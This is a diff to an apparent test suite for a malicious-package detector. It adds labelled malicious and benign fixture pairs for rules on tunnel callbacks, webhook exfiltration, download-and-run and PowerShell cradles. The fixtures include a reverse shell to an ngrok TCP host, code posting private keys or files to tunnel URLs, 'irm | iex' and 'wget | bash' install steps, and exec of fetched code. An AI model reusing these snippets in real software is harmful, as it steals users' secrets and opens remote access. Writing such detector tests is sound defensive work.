@@ -19,6 +19,22 @@ P, N = Ecosystem.PYPI, Ecosystem.NPM
 SETUP_TAIL = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"
 
 
+# notifator/telegram.py (abridged): the bot's token and chat come from the user's ~/.telegram.token
+NOTIFY = ("import requests\nfrom configparser import ConfigParser\n"
+          "def load_config(section):\n    c = ConfigParser()\n    c.read(os.path.expanduser('~/.telegram.token'))\n"
+          "    return c.get(section, 'token'), c.get(section, 'chatid')\n"
+          "def bot_send(section, text):\n    token, chat = load_config(section)\n"
+          "    url = 'https://api.telegram.org/bot' + token + '/sendMessage'\n"
+          "    requests.post(url, data={'chat_id': chat, 'text': text})\n")
+
+
+# nova_ai/__init__.py (abridged): the cell's output, to the author's n8n webhook, when the user runs %%notify
+NOVA = ("import requests\nWEBHOOK_URL = 'https://unsequenced-shrewdly-elly.ngrok-free.dev/webhook/code-monitor'\n"
+        "class Monitor:\n    def send_update(self, output, final=False):\n"
+        "        payload = {'message': output[-3500:], 'chat_id': self.chat_id, 'is_final': final}\n"
+        "        requests.post(WEBHOOK_URL, json=payload, timeout=10)\n")
+
+
 def setup_py(body: str) -> dict[str, str]:
     return {"setup.py": body + SETUP_TAIL, "pkg/__init__.py": ""}
 
@@ -93,12 +109,83 @@ CASES = [
     ("STATIC-DEP-CONFUSION-PROBE",
      (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
      (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
-    ("STATIC-DEP-CONFUSION-PROBE",  # ngrok's newer free domain (hexdecli-style key upload)
-     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://a-b-c.ngrok-free.dev/tron", [key])'))),
+    ("STATIC-TUNNEL-CALLBACK",  # ngrok's newer free domain (hexdecli-style key upload)
+     (P, "pkg", sdist("pkg", module('import requests\ndef perm(private_key):\n    requests.post("https://a-b-c.ngrok-free.dev/tron", [{"ptivate_key", private_key}])'))),
      (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
-    ("STATIC-DEP-CONFUSION-PROBE",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
-     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
+    ("STATIC-TUNNEL-CALLBACK",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
+     (P, "pkg", sdist("pkg", module('import getpass, requests\ndata = getpass.getuser()\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
      (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
+    # a tunnel named where nothing connects: the default value of a form in a dev server
+    # (adobe/helix-onedrive-cli); the reverse shell to ngrok's TCP tunnel (atlasctf-style) connects
+    ("STATIC-TUNNEL-CALLBACK",
+     (P, "pkg", sdist("pkg", module('import socket, subprocess, os\ns = socket.socket()\ns.connect(("1.tcp.ngrok.io", 25377))\n'
+                                    'os.dup2(s.fileno(), 0)\n'))),
+     (N, "jspkg", npm("jspkg", {"index.js": "module.exports = 1;\n", "src/browser.js":
+                                "import express from 'express';\nconst html = ['<form method=\"post\" action=\"/subs\">',\n"
+                                "  'hook: <input name=\"h\" value=\"https://01fe5492.ngrok.io/hook\">'];\n"
+                                "const app = express();\napp.get('/token', async (req, res) => res.end(html.join('\\n')));\n"
+                                "app.use('/subs', express.Router().post('*', createSubscription));\n"}))),
+    # a notebook magic posting the cell's output to its author's bot service behind a tunnel
+    # (nova-ai-monitor-asif) takes nothing of the user's; a wallet helper posting the private key
+    # it is given (hexdecli) and a module posting a file it reads do
+    ("STATIC-TUNNEL-CALLBACK",
+     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": "", "tests/__init__.py": "",
+                              "tests/conftest.py": "import requests, pathlib\nrequests.post('https://a-b-c.ngrok-free.dev/x', "
+                                                   "data=pathlib.Path('notes.txt').read_text())\n"})),
+     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": NOVA}))),
+    # a notifier that reads the user's own bot token from their config (notifator) sends to the
+    # user; the same code with a bot token written into it sends to whoever wrote it
+    ("STATIC-WEBHOOK-EXFIL",
+     (P, "pkg", sdist("pkg", module(NOTIFY.replace("token, chat = load_config(section)",
+                                                   "token, chat = '7012345678:AAH3kd9QpXz1LmN8vB2cR5tY7uW0eF4gHjK', '-100'")))),
+     (P, "pkg", sdist("pkg", module(NOTIFY)))),
+    # `python -m tensorboard.main` beside a localhost readiness probe and a log file (gympn),
+    # `python -m pytest` in an agent (patcherly): installed modules, not a file the code wrote;
+    # a module the code writes itself and runs with -m is
+    ("STATIC-DOWNLOAD-RUN-MODULE",
+     (P, "pkg", sdist("pkg", module('import requests, subprocess, sys\nr = requests.get(U)\n'
+                                    'with open("stage.py", "wb") as f:\n    f.write(r.content)\n'
+                                    'subprocess.Popen([sys.executable, "-m", "stage"])\n'))),
+     (P, "pkg", sdist("pkg", module('import os, subprocess, sys, urllib.request\n'
+                                    'def launch(logdir, port):\n'
+                                    '    with open(os.path.join(logdir, "args.txt"), "w") as f:\n        f.write(str(port))\n'
+                                    '    p = subprocess.Popen([sys.executable, "-m", "tensorboard.main", "--logdir", logdir])\n'
+                                    '    urllib.request.urlopen(f"http://localhost:{port}", timeout=2)\n'
+                                    '    return p\n')))),
+    # hashstation's shape: download, write into site-packages and run, each in its own helper;
+    # a CLI that writes its reports in one function and, a hundred lines on, probes a service
+    # from a child interpreter (phocinae-formulate)
+    ("STATIC-DOWNLOAD-RUN-SCRIPT",
+     (P, "pkg", sdist("pkg", module('import requests, site, subprocess, sys\n'
+                                    'def _fetch():\n    return requests.get(EXT_URL, timeout=15).text\n' + '    # ...\n' * 15 +
+                                    'def _write(code):\n    with open(TARGET, "w") as f:\n        f.write(code)\n    return TARGET\n'
+                                    + '    # ...\n' * 15 + 'def _run():\n    path = _write(_fetch())\n'
+                                    '    subprocess.Popen(\n        [sys.executable, path, B64],\n        stdout=subprocess.DEVNULL)\n'))),
+     (P, "pkg", sdist("pkg", module('import json, subprocess, sys\n'
+                                    'def write_report(path, rows):\n    with open(path, "w") as f:\n        json.dump(rows, f)\n'
+                                    + '# ...\n' * 100 + 'def probe(url):\n    child = ("import sys, urllib.request\\n"\n'
+                                    '             "print(urllib.request.urlopen(sys.argv[1]).read())")\n'
+                                    '    return subprocess.run([sys.executable, "-c", child, url], capture_output=True)\n')))),
+    # a CLI running its own bundled script (better-rlm) bypasses the policy like every Windows
+    # installer; a hidden window or an encoded command is something else
+    ("STATIC-POWERSHELL-BYPASS",
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-File", script])\n'))),
+     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-NoProfile", "-File", script])\n')))),
+    ("STATIC-POWERSHELL-CRADLE",
+     (P, "pkg", sdist("pkg", setup_py("import os\nos.system('powershell -ExecutionPolicy ByPass -c \"irm https://tool.example/i.ps1 | iex\"')\n"))),
+     (P, "pkg", sdist("pkg", module("import subprocess\ndef install_uv():\n    subprocess.run(['powershell', '-ExecutionPolicy', 'ByPass', '-c', "
+                                    "'irm https://tool.example/i.ps1 | iex'])\n")))),
+    # APPDATA for a desktop app's config, and far away in the same CLI a git call and an API poll
+    # (wavestreamer-sdk): three capabilities, no chain
+    ("STATIC-WINDOWS-DROPPER",
+     (P, "pkg", sdist("pkg", module('import os, requests, subprocess\n' + 'X = 1\n' * 40 +
+                                    'def update():\n    d = os.getenv("APPDATA")\n' + '    pass\n' * 10 +
+                                    '    r = requests.get(u)\n    open(d + "/u.exe", "wb").write(r.content)\n'
+                                    '    subprocess.run([d + "/u.exe"])\n'))),
+     (P, "pkg", sdist("pkg", module('import os, requests, subprocess\nfrom pathlib import Path\n'
+                                    'def mcp_config():\n    return Path(os.environ.get("APPDATA", "")) / "Claude" / "config.json"\n'
+                                    'def login():\n    subprocess.run(["git", "config", "user.name"], check=True)\n'
+                                    + '# ...\n' * 90 + 'def poll(url):\n    return requests.get(url, timeout=10)\n')))),
     ("STATIC-PY-EXEC-OBFUSCATED",  # BlankOBF: builtins' names spelled in octal escapes
      (P, "pkg", sdist("pkg", module('_e = eval("\\145\\166\\141\\154")\n_c = _e("\\143\\157\\155\\160\\151\\154\\145")'))),
      (P, "pkg", sdist("pkg", module('RESET = "\\033[0m"\nprint("\\033[1m\\033[31m" + msg + RESET)\nvalue = eval("1 + 2")')))),
@@ -336,4 +423,93 @@ def test_a_keyboard_hook_alone_is_a_macro_tool_and_sending_the_keys_is_not(judge
     # the same hook whose keys go to a webhook
     v = judged(sdist("pkg", module(hook + "import requests\ndef flush():\n    requests.post("
                                    "'https://discord.com/api/webhooks/1/x', json={'k': EVENTS})\n")), P, "pkg")
+    assert v["label"] == "malicious", v
+
+
+# websocat (abridged): the install script asks GitHub's API for the release asset and fetches it
+WEBSOCAT_INSTALL = {
+    "index.js": "module.exports = require('./download-websocat');\n",
+    "install.js": "require('./download-websocat')();\n",
+    "download-websocat.js": "const bent = require('bent');\nconst downloadFile = require('./download-file');\n"
+                            "module.exports = async () => {\n  const rel = await bent('json')("
+                            "`https://api.github.com/repos/vi/websocat/releases/tags/v1.8.0`);\n"
+                            "  await downloadFile(rel.assets[0].browser_download_url, __dirname);\n};\n",
+    "download-file.js": "const http = require('follow-redirects').https;\nmodule.exports = (url, dir) => new Promise((ok) => {\n"
+                        "  http.get(url).on('response', (res) => res.pipe(require('fs').createWriteStream(dir + '/bin')).on('finish', ok));\n});\n",
+}
+# vanish/telemetry.py (abridged): an opt-out telemetry endpoint kept out of plain sight
+VANISH_TELEMETRY = ("import base64, json, platform, urllib.request\n"
+                    f"_EP = b\"{b64('https://telemetry-4676.us-central1.run.app/api/insights')}\"\n"
+                    "def send(event):\n    data = json.dumps({'event': event, 'os': platform.system()}).encode()\n"
+                    "    urllib.request.urlopen(urllib.request.Request(base64.b64decode(_EP).decode(), data=data))\n")
+
+
+def test_a_bypassed_policy_alone_is_for_review_and_a_hidden_encoded_one_is_not(judged):
+    v = judged(sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-File", script])\n')), P, "pkg")
+    assert v["label"] == "benign", v
+    v = judged(sdist("pkg", module("import subprocess\ndef run(b64):\n    subprocess.run(f'powershell.exe -ExecutionPolicy Bypass -EncodedCommand {b64}')\n"
+                                   "run('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')\n")), P, "pkg")
+    assert "STATIC-POWERSHELL-HIDDEN" in v["rules_fired"] and v["label"] == "malicious", v
+
+
+def test_network_at_install_or_a_hidden_address_alone_is_for_review_not_a_verdict(judged):
+    v = judged(npm("websocat", WEBSOCAT_INSTALL, scripts={"install": "node install.js"}), N, "websocat")
+    assert "STATIC-INSTALL-HOOK-NETWORK" in v["rules_fired"] and v["label"] == "benign", v
+    v = judged(sdist("pkg", module(VANISH_TELEMETRY, "pkg/telemetry.py")), P, "pkg")
+    assert "STATIC-ENCODED-URL" in v["rules_fired"] and v["label"] == "benign", v
+
+
+def test_what_the_network_is_used_for_at_install_still_makes_the_verdict(judged):
+    # the same installer fetching a script and running it at install (maratlib's shape)
+    files = {**WEBSOCAT_INSTALL, "install.js": "const { execSync } = require('child_process');\n"
+             "execSync('wget https://files.example/s.sh -O s.sh && chmod 777 s.sh && bash s.sh');\n"}
+    v = judged(npm("websocat", files, scripts={"install": "node install.js"}), N, "websocat")
+    assert v["label"] == "malicious", v
+    # the hidden address used to fetch code that is executed
+    v = judged(sdist("pkg", module(VANISH_TELEMETRY + "exec(urllib.request.urlopen(base64.b64decode(_EP).decode()).read())\n",
+                                   "pkg/telemetry.py")), P, "pkg")
+    assert v["label"] == "malicious", v
+
+
+
+def _wheel(files: dict[str, str]) -> bytes:
+    import io
+    import zipfile
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("netutils_extra-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: netutils-extra\nVersion: 1.0.0\n")
+        z.writestr("netutils_extra-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
+        for path, text in files.items():
+            z.writestr(path, text)
+    return buf.getvalue()
+
+
+def test_a_module_shadows_only_under_the_name_python_imports(judged):
+    rule = "META-SHADOWS-POPULAR-MODULE"
+    # a wheel's src/requests installs as src.requests (token-optimise); a capitalised
+    # Requests is never what `import requests` loads (genailib's LangChaiN)
+    v = judged(_wheel({"src/requests/__init__.py": "X = 1"}), P, "netutils-extra")
+    assert rule not in v["rules_fired"], v
+    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "Requests/__init__.py": "X = 1"}), P, "netutils-extra")
+    assert rule not in v["rules_fired"], v
+    # the same module at a wheel's top, or in an sdist's src/ layout, does shadow it
+    v = judged(_wheel({"requests/__init__.py": "X = 1"}), P, "netutils-extra")
+    assert rule in v["rules_fired"], v
+    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "src/requests/__init__.py": "X = 1"}), P, "netutils-extra")
+    assert rule in v["rules_fired"], v
+    # an sdist that carries a dist-info folder is still built from its src/ layout
+    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "src/requests/__init__.py": "X = 1",
+                                        "netutils_extra.dist-info/METADATA": "Name: netutils-extra\n"}), P, "netutils-extra")
+    assert rule in v["rules_fired"], v
+
+
+
+def test_naming_its_own_server_by_address_at_import_is_for_review_calling_out_is_not(judged):
+    # oixa_protocol/__init__.py (abridged): the service's address in the docstring and a default
+    sdk = ('"""OIXA client.\n\n    tools = OIXAToolkit(base_url="http://198.51.100.34:8000").get_tools()\n'
+           'Server: http://198.51.100.34:8000\n"""\nOIXA_BASE_URL = "http://198.51.100.34:8000"\n')
+    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk}), P, "pkg")
+    assert "STATIC-IP-URL-INSTALL" in v["rules_fired"] and v["label"] == "benign", v
+    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk + "import requests, socket\n"
+                             "requests.post(\"http://198.51.100.34:8000/c\", data=socket.gethostname())\n"}), P, "pkg")
     assert v["label"] == "malicious", v
